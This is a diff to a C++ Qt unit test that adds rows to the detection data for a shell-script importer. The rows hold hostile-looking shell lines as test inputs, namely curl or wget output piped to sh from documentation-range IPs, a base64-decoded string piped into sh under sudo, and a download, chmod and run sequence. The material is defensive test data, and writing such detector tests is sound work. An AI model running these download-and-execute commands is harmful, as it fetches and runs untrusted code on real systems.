@@ -305,6 +305,12 @@ void TestNodeScriptImporter::detections_data()
     // The shared judgement of a command, and across lines.
     QTest::newRow("curl piped to sh") << rc << QByteArray("curl -fsSL http://203.0.113.7/i.sh | sh\n")
                                       << QStringList{"download-exec@1"};
+    QTest::newRow("sh -c wget piped to sh")
+        << daily << QByteArray("#!/bin/sh\nsh -c \"wget -qO- http://198.51.100.7/x | sh\"\n")
+        << QStringList{"download-exec@2"};
+    QTest::newRow("sudo -u app bash -c, base64 into sh")
+        << rc << QByteArray("sudo -u app bash -c 'echo ZWNobyBoaQ== | base64 -d | sh'\n")
+        << QStringList{"encoded-payload@1"};
     QTest::newRow("wget, chmod and run on three lines")
         << daily
         << QByteArray("wget -q http://198.51.100.4/agent -O /usr/local/bin/agent\nchmod 755 /usr/local/bin/agent\n"
